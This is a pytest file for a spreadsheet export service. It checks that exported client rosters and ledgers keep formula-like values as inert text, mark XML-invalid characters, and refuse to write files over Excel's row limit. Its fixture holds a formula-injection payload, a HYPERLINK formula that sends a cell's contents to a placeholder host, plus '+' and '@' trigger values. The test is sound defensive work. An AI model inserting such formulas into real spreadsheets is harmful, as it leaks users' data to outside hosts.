"""Exports a spreadsheet opens safely: formulas stay text, characters XML cannot hold are marked,
and a ledger too long for Excel is refused with a message instead of a broken file."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

import agent_desk.services.xlsx_stream as xlsx_stream
from agent_desk.core.errors import DomainError
from agent_desk.core.identity import make_resident_id
from agent_desk.services.ledger import export_ledger
from agent_desk.services.roster import export_clients
from agent_desk.services.xlsx_stream import BAD_CHAR_MARK, SheetWriter
from agent_desk.store.models import Case
from agent_desk.store.review_queries import LedgerQuery

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
TODAY = date(2026, 11, 20)


@pytest.fixture
def risky_client(session, make_client, make_village):
    village = make_village(session, "洛门村")
    client = make_client(
        session,
        name="王建国",
        id_number=make_resident_id("620524", date(1968, 5, 4), 11),
        address=FORMULA,
        relation_to_head="+户主",
        ethnicity="@汉",
        village_id=village.id,
    )
    session.commit()
    return client


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_export_writes_formula_text_with_an_apostrophe(session, risky_client, tmp_path) -> None:
    export_clients(tmp_path / "花名册.csv", session=session, full=True)
    header, row = _csv_rows(tmp_path / "花名册.csv")
    values = dict(zip(header, row, strict=True))
    assert values["家庭住址"] == "'" + FORMULA
    assert values["与户主关系"] == "'+户主" and values["民族"] == "'@汉"
    assert values["姓名"] == "王建国"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_text_survives_export_and_reimport_unchanged(
    session, risky_client, tmp_path, suffix
) -> None:
    from agent_desk.services.roster import import_clients

    export_clients(tmp_path / f"花名册{suffix}", session=session, full=True)
    report = import_clients(tmp_path / f"花名册{suffix}", session=session)
    assert (report.unchanged, report.updated, report.refused) == (1, 0, [])
    session.refresh(risky_client)
    assert risky_client.address == FORMULA


def test_xlsx_export_writes_formula_text_as_a_string_cell(session, risky_client, tmp_path) -> None:
    export_clients(tmp_path / "花名册.xlsx", session=session, full=True)
    sheet = load_workbook(tmp_path / "花名册.xlsx").active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("家庭住址") + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_a_noncharacter_in_a_ledger_cell_is_marked_and_the_file_opens(
    session, make_client, make_case, make_village, tmp_path
) -> None:
    village = make_village(session, "洛门村")
    client = make_client(session, name="王建国", village_id=village.id)
    case = make_case(session, client, item_name="低保申请", entrusted_on=TODAY)
    session.commit()
    # such a value can no longer be typed or synced in (protocol.values); an older desk or hub may hold one
    session.execute(update(Case).where(Case.id == case.id).values(item_name="低保\ufffe申请\uffff"))
    session.commit()
    target = tmp_path / "台账.xlsx"
    assert export_ledger(LedgerQuery(TODAY, TODAY), target, session=session, today=TODAY) == 1
    rows = list(load_workbook(target, read_only=True).active.iter_rows(values_only=True))
    assert rows[1][2] == f"低保{BAD_CHAR_MARK}申请{BAD_CHAR_MARK}"


def test_every_character_xml_cannot_hold_is_marked(tmp_path) -> None:
    bad = "".join(map(chr, [0, 1, 8, 11, 12, 14, 31, 0xD800, 0xFFFE, 0xFFFF]))
    with SheetWriter(tmp_path / "x.xlsx", "表") as sheet:
        sheet.append(["a" + bad + "b", "tab\tand\nnew line"])
    [row] = load_workbook(tmp_path / "x.xlsx").active.iter_rows(values_only=True)
    assert row == ("a" + BAD_CHAR_MARK * 10 + "b", "tab\tand\nnew line")


def test_the_xlsx_row_limit_is_refused_and_leaves_no_file(
    session, risky_client, tmp_path, monkeypatch
) -> None:
    monkeypatch.setattr(xlsx_stream, "MAX_ROWS", 1)  # the header fills the "sheet"
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(DomainError) as caught:
        export_clients(out / "花名册.xlsx", session=session, full=True)
    assert caught.value.code == "xlsx_row_limit" and "行数上限" in str(caught.value)
    assert list(out.iterdir()) == []


def test_the_real_row_limit_is_excels() -> None:
    assert xlsx_stream.MAX_ROWS == 1_048_576
